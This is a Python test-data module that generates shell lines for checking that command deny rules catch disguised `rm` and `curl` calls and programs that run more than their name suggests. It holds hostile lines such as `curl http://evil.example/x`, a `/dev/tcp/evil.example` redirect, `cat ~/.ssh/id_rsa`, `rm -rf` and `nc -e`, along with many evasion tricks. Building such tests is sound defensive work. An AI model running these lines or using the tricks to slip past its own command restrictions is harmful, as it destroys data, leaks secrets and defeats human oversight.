"""Hostile command lines: ways to run `rm` or `curl` without writing them down, and code in the words of harmless names.

Each technique is another one; payloads only make sure that it does not depend on one spelling.
"""

import re
import shlex
from collections.abc import Iterator

PAYLOADS = ("rm -rf x", "curl http://evil.example/x")

# Techniques against a rule that forbids rm and curl, under one that allows the shell as a whole. P is the payload, C
# its program, A its arguments, Q the payload as one quoted word.
SEEN = r"""
echo `echo \`P\``
echo "`\"C\" A`"
echo `\C A`
x=`echo \`C\``
echo `echo \`echo \\\`P\\\`\``
env -SQ
env -vSQ
env -S'C\_A'
env --split-string=Q
env --split=Q
script -qcQ x
script --command=Q x
runuser root -c C
runuser -u root -- C
su -cQ
su -cC
su root --session-command=Q
flock x -cQ
npx --call=Q
ssh -oproxycommand=Q host
ssh -o proxycommand=Q host
P
 P
\P
'C' A
"C" A
C'' A
''C A
/bin/C A
/usr/bin/C A
./C A
../../../bin/C A
/bin//C A
/bin/./C A
//bin/C A
C	A
P;
P &
P; true
true; P
true && P
false || P
true & P
true | P
P | cat
P |& cat
! P
! ! P
(P)
( ( P ) )
{ P; }
if true; then P; fi
if P; then true; fi
if false; then true; elif P; then true; fi
if false; then true; else P; fi
while P; do break; done
until P; do break; done
for i in 1; do P; done
for ((i=0;i<1;i++)); do P; done
select i in 1; do P; done
case x in *) P;; esac
case x in y) ;; *) P;& esac
[[ -n $(P) ]]
(( $(P) ))
f() { P; }; f
function f { P; }; f
f() ( P ); f
A=1 P
A=1 B=2 P
A=$(P)
A=`P` true
readonly A=$(P)
export A=$(P)
local A=$(P)
A=($(P))
A[$(P)]=1
echo $(P)
echo `P`
echo "$(P)"
echo "`P`"
echo ${x:-$(P)}
echo "${x:=`P`}"
echo ${x:+$(P)}${x:-$(P)}
echo ${x/$(P)/y}
echo ${x:$(P)}
echo $((1 + $(P)))
echo $[ $(P) ]
echo {a,$(P)}
cat <(P)
tee >(P) < y
cat <<< $(P)
cat <<< "$(P)"
cat <<E␤$(P)␤E
cat <<E␤`P`␤E
cat <<-E␤	$(P)␤	E
P > y
> y P
2>&1 P
< y P
&> y P
P 2>/dev/null
exec P
exec -a ls P
/lib64/ld-linux-x86-64.so.2 /bin/C A
/lib/ld-linux-aarch64.so.1 --library-path /lib /bin/C A
/lib/ld-musl-x86_64.so.1 /bin/C A
ld.so --argv0 ls /bin/C A
/lib/ld64.so.2 /bin/C A
exec 3< <(P)
command P
command -p P
builtin command P
eval P
eval Q
eval "P"
eval '{C,A}'
c=Q; eval '$c'
trap '$c' EXIT; c=Q
sudo eval '`cat y`'
eval 'C' 'A'
time P
time -p P
coproc P
coproc N { P; }
trap Q EXIT
trap -- Q 0
env P
env -i P
env - P
env -u A P
env A=1 P
env -S Q
env --split-string=Q
/usr/bin/env P
sudo P
sudo -n P
sudo -u root -- P
doas P
nice P
nice -n 5 P
ionice -c 3 P
nohup P
setsid P
setsid -f P
stdbuf -o0 P
timeout 5 P
timeout -k 1 -s KILL 5 P
timeout --foreground 5 P
chroot . P
chrt -b 0 P
taskset 1 P
flock y P
flock y -c Q
unshare -r P
nsenter -t 1 P
setpriv --reuid 1 P
setarch x86_64 P
linux32 P
strace P
strace -o y P
ltrace P
valgrind P
xvfb-run P
dbus-run-session -- P
systemd-run P
systemd-inhibit P
script -c Q
script -qc Q /dev/null
watch P
watch -n 1 Q
xargs P
xargs -n 1 P
echo A | xargs C
find . -exec P ;
find . -exec P \;
find . -exec P {} +
find . -execdir P \;
find . -ok P \;
find . -name y -o -exec P \;
busybox P
toybox P
bash -c Q
sh -c Q
dash -c Q
zsh -c Q
ksh -c Q
fish -c Q
bash -ec Q
bash --norc -c Q
bash -c 'eval "$0"' Q
sh -c Q sh
bash -lic Q
bash -c "bash -c Q"
sudo sh -c Q
env bash -c Q
timeout 5 sh -c Q
nohup sh -c Q &
bash <<< Q
bash <<E␤P␤E
sh <<'E'␤P␤E
bash -s <<< Q
bash -s x <<< Q
bash /dev/stdin <<< Q
echo Q | sh
echo Q | bash -
echo Q | bash -s -- y
echo Q | sudo sh
echo Q | bash /dev/fd/0
printf %s Q | sh
. /dev/stdin <<< Q
source /dev/stdin <<< Q
source <(echo Q)
. <(echo Q)
bash <(echo Q)
eval "$(echo Q)"
eval `echo Q`
$(echo C) A
`echo C` A
"$(echo C)" A
C$(true) A
$(true)C A
C`true` A
c=C; $c A
c=C; "$c" A
c=C; ${c} A
c=C; ${c:0:9} A
c=xC; ${c#x} A
c=Cx; ${c%x} A
c=Cx; ${c/x/} A
c=C; ${c,,} A
c=c; c=C; ${!c} A
c=(C A); "${c[@]}"
c=Q; $c
c=Q; eval $c
c=Q; eval "$c"
c=Q; bash -c "$c"
c=Q; sh -c $c
c=Q; bash <<< "$c"
c=C; env $c A
c=C; command $c A
c=C; exec $c A
c=C; sudo $c A
c=C; timeout 5 $c A
c=C; nice "$c" A
c=C; xargs $c
c=C; find . -exec $c A \;
set -- C A; "$@"
set -- C A; $*
set -- C A; $1 $2
IFS=,; c=C,A; $c
c=C␤$c A
read c <<< C; $c A
read -r c < y; $c
mapfile -t c < y; "${c[@]}"
printf -v c %s C; $c A
declare c=C; $c A
for c in C; do $c A; done
while read c; do $c; done <<< Q
case C in *) c=C;; esac; $c A
$'C' A
$"C" A
$'\x43' A
{C,A}
{C,-f,x}
/bin/{C,true} A
/bin/?? A
/bin/[a-z]* A
/b?n/C A
/*/C A
~/C A
alias z=Q; z
shopt -s expand_aliases; alias z=Q; z
hash -p /bin/C z; z A
enable -f ./z.so z; z
trap "$(echo Q)" EXIT
c=Q; trap "$c" DEBUG
PS4='$(P)'; set -x; true
x='a[$(P)]'; echo $((x))
x='$(P)'; echo ${x@P}
x='`P`'; echo "${x@P}"
x='a[$(P)]'; [[ $x -eq 1 ]]
x='a[$(P)]'; let x
printf '%d' 'a[$(P)]' > y
xargs sh -c Q
xargs -I{} {} A
xargs -I{} sh -c {}
echo Q | xargs -I{} bash -c {}
echo C A | xargs env
echo C A | xargs sudo
echo C | parallel {} A
find /bin -name C -exec {} A \;
find /bin -name C -exec sh -c '{} A' \;
P # x
# x␤P
true ␤P
true␤␤P␤
true \␤; P
\␤P
C \␤A
tr\␤ue; P
true␤\P
true && true␤\P
true␤␤\P
# y \␤P
true # y\␤P
# y\␤: y#y \␤P
: $(P)
: ${x:=$(P)}
test -n "$(P)"
[ -n "$(P)" ]
echo "a" "b$(P)c" 'd'
echo 'a'"$(P)"
echo "'$(P)'"
echo \\$(P)
echo $(echo $(P))
echo $( (P) )
echo "$( ( { P; } ) )"
(true; (true; (true; P)))
{ true; { true; P; } }
true;;;P
if; P
case; P
) P
} P
<<E P
"; P
'; P
`P
$(P
$((P
"""

# Techniques under rules that allow programs by their names. X is a payload as one word.
BARE = r"""
git status --ignore-submodules=none
git diff --ignore-submod=none
git describe --always --dirty
git diff-files
git diff-index HEAD
sed 's/[[:alpha:]/]/p;s/e;#/p/' x
sed 's/[[.x.]/]/p;s/e;#/p/' x
nm @x x.o
objdump @x
date 0101000099
date -u 0101000099
tar -t -f x --voln=x
tar -tf x --liste=x
tar -tf x --mu
git -c alias.x='!X' x
git -c core.pager=X log
git -c core.fsmonitor=X status
git -c core.sshCommand=X fetch
git --exec-path=. status
git --config-env=alias.x=X x
git -p log
git --paginate log
git -C . x
git --git-dir=x status
git --work-tree=x status
git diff --ext-diff
git diff --ext
git log --textconv
git log --output=x
git grep -O
git grep -OX x
git grep --open-files-in-pager=X x
git show --output x
git bisect run X
git rebase -x X
git submodule foreach X
git filter-branch --tree-filter X
git difftool -x X
git mergetool
git config alias.x X
git config core.hooksPath x
git clone ext::X
git fetch ext::X
git fetch --upload-pack=X
git push --receive-pack=X
git ls-remote --upload-pack=X y
git archive --remote=x --exec=X
git send-email
git instaweb
git help log
git hook run x
git maintenance run
git worktree add x
git blame --contents=/etc/passwd x
git cat-file --textconv x
git cat-file --filters x
git format-patch --output-directory=/x
git interpret-trailers --trailer x
git stash push
git x
find . -exec X ;
find . -execdir X ;
find . -ok X ;
find . -okdir X ;
find . -delete
find . -fprint x
find . -fprintf x %p
find . -fls x
find . -files0-from x
fd -x X
fd -X X
fd --exec X
fd --exec-batch X
fd --exec=X
fd -uXx y
rg --pre X y
rg --pre=X y
rg --hostname-bin X y
rg -z X
rg --search-zip X
sort --compress-program=X x
sort --compress X x
sort --comp=X x
sort -o x y
sort -uo x y
sort --output=x y
sort -T /x y
tar tf x --checkpoint=1 --checkpoint-action=exec=X
tar tf x --checkpoint-a=exec=X
tar tf x --to-command=X
tar tf x --use-compress-program=X
tar tf x -I X
tar tIf X x
tar tf x --rsh-command=X
tar tf h:x
tar tf x --info-script=X
tar tFf X x
tar tf x -T y
tar tTf y x
tar tf x --files-from=y
tar tf x --files-f y
tar tMf x
tar tf x --multi-volume
tar tf x --volno-file=y
tar tf x -g y
tar tf x --listed-incremental=y
arch -x86_64 X
lspci -q
tar cf x y
tar xf x
tar --extract --file x
awk 'BEGIN{system("X")}'
awk 'BEGIN{"X"|getline}'
awk 'BEGIN{print|"X"}'
awk 'BEGIN{print>"x"}'
awk '@load "x"'
awk -f x
awk -i x 1
awk -E x
awk --file=x
awk -lx 1
awk 'BEGIN{print|&"X"}'
awk 'BEGIN{printf "x" >> "y"}'
sed e
sed '1e X'
sed 's/a/X/e' y
sed 's/a/b/w x' y
sed 'w x' y
sed -i s/a/b/ y
sed --in-place s/a/b/ y
sed -f x y
sed -n '/a/{e X' y
sed 'r /etc/passwd' y
sed 's/a/b/;e X' y
sed -e p -e 'e X' y
sed 'W x' y
date --set=0
date -s 0
diff -l x y
diff --paginate x y
diff3 --diff-program=X a b c
file -m x y
file -C -m x
file -z x
hostname x
uniq x y
shuf -o x y
xxd -r x y
nm --plugin X y
objdump --plugin=X y
tree -o x
ss -K
dmesg -C
ruff check --fix
ruff server
black -c X
black --code X
ptx x y -G
base64 -o x
docker run X
docker exec x X
docker -H x ps
docker compose up
docker build .
kubectl cluster-info dump --output-directory=x
kubectl exec x X
kubectl --kubeconfig=x get pods
kubectl get pods --kubeconfig x
kubectl apply -f x
gh alias set x X
gh extension install x
gh api x
apt list -o APT::Update::Pre-Invoke::=X
apt install x
apt-cache show -o Dir=X
pip install x
pip list --python X
pip --python X list
openssl engine X
openssl speed -engine X
systemctl edit x
systemctl -H X status
go run x
go list -toolexec X
go vet -vettool=X
go generate
cargo --config x build
cargo run --config x
cargo install x
pytest
pytest -p X
pytest tests
pytest --tx popen//python=X
pytest -c x
mypy x
mypy --python-executable X
eslint x
eslint --rulesdir x
eslint --config X x
prettier --plugin=X x
prettier x
tox
tox -e x
nox
nox -f X
pyright x
pyright --pythonpath X
tsc
tsc -p x
ack --pager=X y
ack x
make
make X
make -f x
make SHELL=X
make --eval=X
npm run X
npm exec X
npm x
npm i x
pnpm run x
yarn x
python X
python -c X
python -m X
python -m http.server
python -X importtime -c X
python3 -c X
python3.12 -c X
pypy -c X
perl -e X
ruby -e X
node -e X
node --require X x
php -r X
lua -e X
julia -e X
tclsh X
guile -c X
elixir -e X
env X
env -S X
nice X
nohup X
setsid X
timeout 5 X
stdbuf -o0 X
flock x X
unshare X
sudo X
doas X
chroot x X
xargs X
parallel X
watch X
script -c X
entr X
bash -c X
sh X
zsh -c X
dash x
busybox X
toybox X
vim -c '!X'
vi x
nvim --cmd '!X'
emacs --eval X
ed x
ex -c '!X'
nano -s X
less x
more x
man -P X ls
ssh -o ProxyCommand=X h
ssh h X
scp -S X a h:b
sftp -D X
rsync -e X a b
rsync --rsync-path=X a h:b
curl -K x
curl -o x http://h
wget --use-askpass=X h
wget -O x h
nc -e X h 1
socat - EXEC:X
openssl s_client
telnet h
gdb -ex '!X'
lldb -o X
strace X
perf record X
cmake -P x
gcc -wrapper X x.c
gcc -fplugin=X x.c
clang -Xclang -load -Xclang X x.c
ld -plugin X
as x
cc x
rustc -C linker=X x
javac -processor X x
java -jar x
mvn exec:exec
gradle x
ant x
bazel run x
meson setup x
ninja -t x
just x
task x
rake x
bundle exec X
gem install x
composer x
terraform init
ansible -a X all
vagrant up
psql -c '\! X'
mysql -e 'system X'
sqlite3 x '.shell X'
redis-cli x
mongo --eval X
zip x y -T -TT X
unzip x
7z x y
gzip x
cp a b
mv a b
tee x
dd of=x
install a b
ln -s a b
split --filter=X x
csplit x
truncate -s 0 x
crontab x
at now
batch
tmux new X
screen X
pylint --init-hook=X
pylint --load-plugins=x
pylint --rcfile=x
jest --config={}
jest --globalSetup=x
hyperfine X
hyperfine --prepare X y
tsx x.ts
tsx -e X
ts-node -e X
duckdb -c '.shell X'
duckdb -init x
clang-tidy -load X x.c
clang-tidy --config=x
rubocop -r ./x
rubocop --require x
flake8 --config=x
bandit -c x
pre-commit run
vitest run
mocha -r ./x
ava --node-arguments=x
nyc X
webpack --config x
vite build
rollup -c x
esbuild --serve
babel --plugins x
stylelint --custom-syntax x
tslint -r x
coverage run x
nosetests --with-x
sphinx-build -D x=y a b
mkdocs build
pandoc2 --lua-filter=x
jq2 x
bat --pager=X y
delta --pager X
exa --x
fzf --preview X
entrypoint X
direnv exec . X
mise exec X
asdf exec X
nix-shell --run X
nix run x
guix shell x
conda run X
uvx X
uv run X
pipx run X
poetry run X
hatch run X
rye run X
pdm run X
deno run x
bun x
swift x
dotnet run
ghc -e X
runghc x
ocaml x
scala -e X
kotlin x
groovy -e X
crystal eval X
nim r x
zig run x
v run x
R -e X
Rscript -e X
octave --eval X
gnuplot -e X
maxima --batch x
sage -c X
latexmk -e X
pdflatex -shell-escape x
dot -Kx
ffmpeg -f x
convert 'ephemeral:x' y
exiftool -config x
gs -sDEVICE=x
wkhtmltopdf x y
chromium --renderer-cmd-prefix=X
code --install-extension x
xdg-open x
open x
osascript -e X
wine x
qemu-user x
ld.so ./x
ldd ./x
getconf -v x y
./ls x
./git status
./grep x y
./cat x
bin/ls x
../bin/cat x
/tmp/ls
/work/bin/git status
/home/me/.local/bin/grep x
LS
Git status
gIt status
ls2
git2 status
grep-3 x
ls.exe
cat.exe x
git.exe status
"""

# Under rules that allow `ls`, `cat`, `echo` and their like: a shell would do more with the line than its words say.
SHELLED = r"""
ls; X
ls;X
ls && X
ls || X
ls | X
ls |& X
ls & X
ls &
ls␤X
ls␤␤X
ls \␤; X
ls > x
ls >> x
ls >| x
ls &> x
ls 2> x
ls < x
ls <> x
ls 3> x
ls {fd}> x
ls <<< x
ls <<E␤x␤E
ls > /dev/tcp/evil.example/80
echo $(X)
echo `X`
echo "$(X)"
echo "`X`"
echo $x
echo ${x}
echo ${x:-$(X)}
echo ${x@P}
echo $((x))
echo $[1]
echo <(X)
echo >(X)
cat *
cat ?
cat [a]
cat {a,b}
cat {1..9}
cat ~
cat ~/.ssh/id_rsa
cat ~root/x
cat a=~
cat !x
cat !!
cat $'x'
cat $"x"
(ls; X)
{ ls; X; }
! ls
if ls; then X; fi
while ls; do X; done
for i in a; do ls; done
case a in a) ls;; esac
ls() { X; }; ls
function ls { X; }; ls
alias ls=X; ls
A=1 ls
PATH=. ls
LD_PRELOAD=./x ls
BASH_ENV=x ls
IFS=x ls
ls # x
ls #␤X
time ls
coproc ls
exec ls
eval ls
command ls
builtin ls
trap ls 0
set -x; ls
. ls
source ls
%1
ls "a
ls 'a
ls a\
"ls
""
'' ls
ls $x
"$x" ls
ls;
ls ;;
ls )
ls }; X
ls\; X; X
ls "; X"; X
ls '; X'; X
ls \'; X
ls "\""; X
ls '"'; X
ls a'b'c; X
"""

ODD = (
    "ls\r\nX", "ls\rX", "ls\x0bX", "ls\x0cX", "ls\x85X", "ls\u2028X", "ls\u2029X", "ls\0X", "ls\xa0X", "ls\u3000X",
    "ls\u200bX", "l\u200bs", "\ufeffls", "\u202els", "ls \u2066x", "ls \u2069x", "ls \u061cx", "ls\x1b[2K", "ls \x08x",
    "ls \x7f", "ls \ud800", "ls \ue000", "ls\u1680x", "ls\u2003x", "ls\u00adx", "ls \x1f", "ls \u180ex", "ls \ufff9x",
    "\uff4c\uff53", "l\u0455", "\u04cfs", "l\u017f", "\u217cs", "ls\u2060", "ls\U000e0020x",
)  # fmt: skip

BEYOND = (
    "true;" * 300 + "P",
    "P;" + "true;" * 300,
    "echo " + "a" * 33_000 + "; P",
    "echo " + "'a' " * 600 + "; P",
    "env " * 12 + "P",
    "env " + "-u A " * 300 + "P",
    "sh " + "a " * 40 + "-c Q",
    "$(" * 200 + "P" + ")" * 200,
    "(" * 300 + "P" + ")" * 300,
    "{ " * 300 + "P" + "; }" * 300,
    "nice " * 300 + "P",
    "xargs " * 50 + "P",
    "if true; then " * 90 + "P" + "; fi" * 90,
    "A=1 " * 2_000 + "P",
    "true |" * 400 + "P",
    "timeout 5 " * 30 + "P",
    "case x in a) ;;& esac <<<<( ; P",
    "echo " + "\\\n" * 5_000 + "; P",
)


def forbidden_lines() -> Iterator[str]:
    """Lines that run rm or curl. Deny rules for both must find them, also where everything else is allowed."""
    for payload in PAYLOADS:
        program, _, arguments = payload.partition(" ")
        for technique in [*_lines(SEEN), *BEYOND]:
            line = technique.replace("P", "\1").replace("Q", "\2").replace("C", "\3").replace("A", "\4")
            # A variable called A, PATH or PS4 is no place for the payload.
            for name in ("\4=", "\4[", "-u \4", "\1S4", "\4)", "(\4", "\1\4TH"):
                line = line.replace(name, name.replace("\4", "A").replace("\1", "P"))
            line = line.replace("c=(\3 A)", "c=(\3 \4)")
            for mark, text in (("\1", payload), ("\2", shlex.quote(payload)), ("\3", program), ("\4", arguments)):
                line = line.replace(mark, text)
            yield line
    yield from _nested(PAYLOADS[0])


def bare_lines() -> Iterator[tuple[str, str]]:
    """A program that a rule allows by its name, and a line that runs more than that."""
    for line in _lines(BARE):
        yield line.split()[0], re.sub(r"(?<![-A-Za-z])X(?![A-Za-z])", "evil", line)
    for line in [*_lines(SHELLED), *ODD]:
        for name in ("ls", "cat", "echo"):
            yield name, line.replace("X", "rm x").replace("ls", name)


def _lines(text: str) -> Iterator[str]:
    for line in text.strip("\n").split("\n"):
        yield line.replace("␤", "\n")


def _nested(payload: str) -> Iterator[str]:
    line = payload
    for _ in range(8):
        line = shlex.join(["sh", "-c", line])
        yield line
        yield f"true; {line}"
        yield f"sudo {line}"
